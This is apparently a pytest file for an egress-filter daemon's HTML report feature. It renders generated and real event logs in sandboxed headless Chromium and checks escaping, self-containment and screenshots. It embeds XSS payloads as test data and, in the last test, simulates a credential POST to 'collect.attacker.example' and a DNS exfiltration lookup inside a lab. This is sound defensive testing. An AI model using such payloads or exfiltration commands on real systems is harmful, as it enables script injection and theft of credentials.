"""`egressd report`: a generated event log rendered in headless Chromium.

No netfilter state is touched and no namespace is needed for the report
itself; Chromium runs in a throwaway network namespace holding only a
loopback, so a page that tried to fetch anything could not, and its net log
shows every request it tried. Checks: the DOM holds the expected sections,
the hostile strings of the log are text (no element they smuggled in), no
element references an external URL, the net log has no request other than
the file itself, and the phone-sized screenshot is not blank and shows the
timeline's colour.
"""
import json
import os
import re
import shutil
import struct
import uuid
import zlib

import pytest

import lab as L

needs_chromium = pytest.mark.skipif(not shutil.which("chromium"),
                                    reason="chromium not installed (tests/deps.sh)")

HOSTILE = "<script>document.title='pwned'</script>"
HOSTILE_SRC = "<img src=x onerror=alert(1)>"


def ev(ts, event, **kw):
    d = {"ts": "2026-12-03T13:%02d:%02d.000000Z" % (ts // 60, ts % 60), "event": event}
    d.update(kw)
    return json.dumps(d)


def deny(ts, name, dport=443, src="198.51.100.10", **kw):
    d = dict(proto="tcp", src=src, sport=40000 + ts, dst="203.0.113.9", dport=dport,
             name=name, name_source="sni", reason="name_not_allowed", indicators=[],
             severity="low", enforced=True)
    d.update(kw)
    return ev(ts, "deny", **d)


def generated_log():
    lines = [ev(0, "ready", version="test", mode="gateway", enforce=True)]
    for t in range(0, 600, 20):
        lines.append(deny(t, "telemetry.example.net", count=3))
    for t in range(100, 200, 10):
        lines.append(deny(t, "paste.example.org", src="198.51.100.11",
                          indicators=["credential:aws_access_key"],
                          credentials=[{"type": "aws_access_key", "masked": "AKIA\u2026MPLE"}],
                          severity="critical"))
    lines.append(deny(300, HOSTILE, src=HOSTILE_SRC, indicators=[HOSTILE_SRC],
                      severity="high"))
    lines.append(ev(310, "deny", proto="tcp", src="2001:db8::10", sport=41000,
                    dst="2001:db8::1", dport=22, reason="ip_not_allowed",
                    indicators=["ip_literal"], severity="medium", enforced=True))
    lines.append(deny(330, "pastebin.example.com", uid=1000, exe="/usr/bin/curl", pid=4242))
    lines.append(ev(320, "dns_deny", src="198.51.100.10", sport=5353,
                    qname="aGVsbG8.t.example.com", qtype="TXT", reason="name_not_allowed",
                    indicators=["dns_tunnel"], severity="high", enforced=True, count=7))
    for t in range(0, 600, 30):
        lines.append(ev(t, "allow", proto="tcp", src="198.51.100.10", sport=42000 + t,
                        dst="203.0.113.20", dport=443, name="updates.example.com",
                        name_source="sni", rule="allow.d/ci.list:1", count=10))
        lines.append(ev(t, "dns_allow", src="198.51.100.10", qname="updates.example.com",
                        qtype="A"))
    lines.insert(5, "this is not json")
    lines.insert(9, '{"ts": "2026-12-03T13:00:00Z"}')
    return lines


@pytest.fixture
def empty_ns():
    name = "%s-%s-rep" % (L.PREFIX, uuid.uuid4().hex[:6])
    L.run(["ip", "netns", "add", name])
    L.run(["ip", "netns", "exec", name, "ip", "link", "set", "lo", "up"])
    yield name
    L.ns_delete(name)


def egressd(*args, timeout=20, input=None):
    p = L.run([L.egressd_bin()] + list(args), check=False, timeout=timeout, input=input)
    assert not L.SANITIZER_RE.search(p.stderr), p.stderr
    return p


def chromium(ns, tmp_path, url, extra):
    prof = tmp_path / ("profile-%s" % uuid.uuid4().hex[:6])
    args = ["ip", "netns", "exec", ns, "timeout", "-k", "5", "60", "chromium",
            "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--disable-default-apps", "--disable-extensions", "--user-data-dir=%s" % prof,
            ] + list(extra) + [url]
    env = dict(os.environ, HOME=str(tmp_path))
    return L.run(args, check=False, timeout=75, env=env)


def png_pixels(path):
    """(width, height, rows of RGB(A) tuples) of an 8-bit RGB/RGBA PNG, unfiltered."""
    data = open(path, "rb").read()
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    pos, idat, ihdr = 8, b"", None
    while pos < len(data):
        n, kind = struct.unpack(">I4s", data[pos:pos + 8])
        body = data[pos + 8:pos + 8 + n]
        if kind == b"IHDR":
            ihdr = struct.unpack(">IIBBBBB", body)
        elif kind == b"IDAT":
            idat += body
        pos += 12 + n
    w, h, depth, ctype = ihdr[:4]
    assert depth == 8 and ctype in (2, 6), ihdr
    bpp = 3 if ctype == 2 else 4
    raw = zlib.decompress(idat)
    stride = w * bpp
    rows, prev = [], bytearray(stride)
    for y in range(h):
        f = raw[y * (stride + 1)]
        line = bytearray(raw[y * (stride + 1) + 1:(y + 1) * (stride + 1)])
        for i in range(stride):
            a = line[i - bpp] if i >= bpp else 0
            b = prev[i]
            c = prev[i - bpp] if i >= bpp else 0
            if f == 1:
                line[i] = (line[i] + a) & 255
            elif f == 2:
                line[i] = (line[i] + b) & 255
            elif f == 3:
                line[i] = (line[i] + (a + b) // 2) & 255
            elif f == 4:
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
        rows.append(line)
        prev = line
    return w, h, rows, bpp


def page_requests(netlog):
    """URLs of the requests in a Chromium net log that a page made (an initiator
    other than the browser itself)."""
    text = netlog.read_text(errors="replace")
    try:
        d = json.loads(text)
    except ValueError:  # cut short when Chromium exits: close the lists
        d = json.loads(text.rstrip().rstrip(",") + "]}")
    types = {v: k for k, v in d["constants"]["logEventTypes"].items()}
    urls = []
    for e in d.get("events", []):
        p = e.get("params") or {}
        if types.get(e["type"]) == "URL_REQUEST_START_JOB" and "url" in p and \
                p.get("initiator") != "not an origin":
            urls.append(p.get("url"))
    return urls


def test_report_cli(tmp_path):
    """Malformed lines: named FILE:LINE and summed up on stderr, the rest reported;
    nothing readable: exit 1 and no page."""
    log = tmp_path / "events.jsonl"
    log.write_text("\n".join(generated_log()) + "\n")
    out = tmp_path / "r.html"
    p = egressd("report", str(log), "-o", str(out))
    assert p.returncode == 0, p.stderr
    assert "%s:6: " % log in p.stderr and "%s:10: " % log in p.stderr, p.stderr
    assert re.search(r"2 of \d+ line\(s\) malformed", p.stderr), p.stderr
    assert out.stat().st_size > 1000
    # stdin and stdout
    p = egressd("report", input=log.read_text())
    assert p.returncode == 0 and p.stdout.startswith("<!DOCTYPE html>"), p.stderr
    bad = tmp_path / "bad.jsonl"
    bad.write_text("garbage\n{\"no\": \"event\"}\n")
    out2 = tmp_path / "none.html"
    p = egressd("report", str(bad), "-o", str(out2))
    assert p.returncode == 1 and "nothing could be read" in p.stderr, p.stderr
    assert not out2.exists()
    p = egressd("report", str(tmp_path / "missing.jsonl"))
    assert p.returncode == 1 and "missing.jsonl" in p.stderr, p.stderr
    p = egressd("report", "--bogus")
    assert p.returncode == 2, p.stderr
    p = egressd("help", "report")
    assert p.returncode == 0 and "egressd report [LOG]" in p.stdout
    assert "report [LOG]" in egressd("--help").stdout


@needs_chromium
def test_report_in_chromium(tmp_path, empty_ns):
    log = tmp_path / "events.jsonl"
    log.write_text("\n".join(generated_log()) + "\n")
    page = tmp_path / "report.html"
    p = egressd("report", str(log), "-o", str(page))
    assert p.returncode == 0, p.stderr
    html = page.read_text()
    # Self-contained in the source: nothing that names or loads another resource.
    assert not re.search(r"https?://|//[a-z0-9.-]+\.[a-z]{2,}/", html, re.I), \
        re.findall(r".{40}https?://.{40}", html)
    assert not re.search(r"<(script|link|img|iframe|object|embed)\b", html, re.I)
    assert not re.search(r"<[^>]*\s(src|href)\s*=", html, re.I)
    assert not re.search(r"@import|url\(", html, re.I)

    netlog = tmp_path / "net.json"
    os.chmod(tmp_path, 0o755)
    url = "file://%s" % page
    d = chromium(empty_ns, tmp_path, url, ["--dump-dom", "--log-net-log=%s" % netlog])
    assert d.returncode == 0 and "</html>" in d.stdout, (d.returncode, d.stderr[-2000:])
    dom = d.stdout
    for sid in ("summary", "ratio", "timeline", "top-destinations", "top-sources",
                "dns-denied", "reasons", "indicators", "credentials", "top-processes"):
        assert 'id="%s"' % sid in dom, sid
    assert '<svg id="timeline-plot"' in dom and "<rect" in dom
    assert 'name="viewport"' in dom
    # count honoured: 30 lines x 3 + 10 + 1 + 1 + 1 denied flows, 20 x 10 allowed
    assert re.search(r'id="n-deny">denied flows<b>103</b>', dom), dom[:3000]
    assert re.search(r'id="n-allow">allowed flows<b>200</b>', dom)
    assert re.search(r'id="n-dns-deny">refused DNS queries<b>7</b>', dom)
    assert "telemetry.example.net:443" in dom and "[2001:db8::1]:22" in dom
    assert "aGVsbG8.t.example.com" in dom
    assert "/usr/bin/curl (uid 1000)" in dom
    # credentials as logged (masked), never more
    assert "AKIA\u2026MPLE" in dom and "aws_access_key" in dom
    # the hostile strings are text: escaped in the DOM, no element, the title untouched
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;:443" in dom
    assert "&lt;img src=x onerror=alert(1)&gt;" in dom
    assert not re.search(r"<(script|img)\b", dom, re.I)
    assert "<title>egressd report</title>" in dom
    # the DOM, as Chromium built it, references no external URL
    assert not re.search(r"<[^>]*\s(src|href)\s*=", dom, re.I)
    assert not re.search(r"https?://", dom, re.I)
    # and the page asked for nothing: the net log names every request and who made it
    # (Chromium's own update and time checks have no origin; a page's request has one)
    assert not page_requests(netlog), page_requests(netlog)
    # the check itself can fail: a control page with one external image is caught
    control = tmp_path / "control.html"
    control.write_text('<!DOCTYPE html><html><body><img src="http://198.51.100.1/x.png">'
                       '</body></html>')
    ctl_log = tmp_path / "control-net.json"
    chromium(empty_ns, tmp_path, "file://%s" % control,
             ["--dump-dom", "--log-net-log=%s" % ctl_log])
    assert [u for u in page_requests(ctl_log) if "198.51.100.1" in u], page_requests(ctl_log)

    shot = tmp_path / "report.png"
    s = chromium(empty_ns, tmp_path, url, ["--screenshot=%s" % shot,
                                           "--window-size=412,1600", "--hide-scrollbars"])
    assert shot.exists(), (s.returncode, s.stderr[-2000:])
    w, h, rows, bpp = png_pixels(shot)
    assert (w, h) == (412, 1600), (w, h)
    colours = set()
    red = 0
    for row in rows[::4]:
        for x in range(0, w * bpp, bpp * 2):
            px = tuple(row[x:x + 3])
            colours.add(px)
            if abs(px[0] - 0xd6) < 12 and abs(px[1] - 0x27) < 12 and abs(px[2] - 0x28) < 12:
                red += 1
    assert len(colours) > 20, "the screenshot looks blank: %d colours" % len(colours)
    assert red > 20, "no red of the timeline / deny bar in the screenshot"
    keep = os.environ.get("EGRESSD_REPORT_SHOT")
    if keep:
        shutil.copy(shot, keep)


def test_report_of_a_real_log(gwlab, tmp_path, empty_ns):
    """End to end: the daemon's own log (an allowed fetch, a credential POST to
    an attacker, a refused DNS name) turned into a page that shows them."""
    from exfil import common as X
    e = gwlab.write_conf(unknown_ip="verify")
    e.start()
    assert gwlab.curl("http://updates.example.com/file").returncode == 0
    host = "collect.attacker.example"
    data = "aws_access_key_id=%s&aws_secret_access_key=%s" % (X.AWS_KEY_ID, X.AWS_SECRET)
    gwlab.curl("http://%s/upload" % host, "--resolve", "%s:80:%s" % (host, L.ATTACKER4),
               "--data-binary", data, timeout=5)
    gwlab.dig("exfil.attacker.example", "A")
    e.wait_event(lambda ev: ev.get("event") == "deny" and ev.get("name") == host,
                 what="deny of the POST")
    e.wait_event(lambda ev: ev.get("event") == "dns_deny"
                 and ev.get("qname", "").rstrip(".") == "exfil.attacker.example",
                 what="dns_deny")
    page = tmp_path / "real.html"
    p = egressd("report", e.log, "-o", str(page))
    assert p.returncode == 0, p.stderr
    assert "malformed" not in p.stderr, p.stderr
    html = page.read_text()
    assert "%s:80" % host in html
    assert "exfil.attacker.example" in html
    assert X.mask(X.AWS_KEY_ID) in html and "aws_access_key" in html
    assert X.AWS_KEY_ID not in html and X.AWS_SECRET not in html
    assert re.search(r'id="n-allow">allowed flows<b>[1-9]', html)
    if shutil.which("chromium"):
        d = chromium(empty_ns, tmp_path, "file://%s" % page, ["--dump-dom"])
        assert 'id="timeline-plot"' in d.stdout and "%s:80" % host in d.stdout, d.stderr[-2000:]
